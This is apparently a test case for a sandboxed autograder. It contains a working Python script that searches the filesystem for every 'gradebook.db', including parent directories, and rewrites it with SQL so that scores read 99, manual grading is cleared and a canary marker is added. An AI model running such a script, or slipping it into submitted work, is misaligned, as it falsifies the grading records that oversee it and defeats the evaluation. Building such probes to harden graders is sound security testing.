"""Write full marks into every gradebook that a walk finds.

class: write
expect: graded
"""

EXTRA = [
    """import os
import sqlite3
import time

WRITE = [
    "update grade set auto_score = 99, manual_score = 3, needs_manual_grade = 0",
    "update base_cell set name = name || ' attack-canary'",
    "update grade_cell set max_points = 99",
]
stop = time.monotonic() + 15
found = set()
for start in (os.getcwd(), "/"):
    for folder, folders, files in os.walk(start):
        if time.monotonic() > stop:
            break
        if folder.startswith(("/proc", "/sys", "/usr")):
            folders.clear()
            continue
        found |= {os.path.join(folder, name) for name in files if name == "gradebook.db"}
for up in range(1, 6):
    found.add("../" * up + "gradebook.db")
for path in found:
    if os.path.exists(path):
        for statement in WRITE:
            try:
                with sqlite3.connect(path, timeout=2) as base:
                    base.execute(statement)
                print("LOOT: wrote to", path)
            except sqlite3.Error as error:
                print(error)"""
]
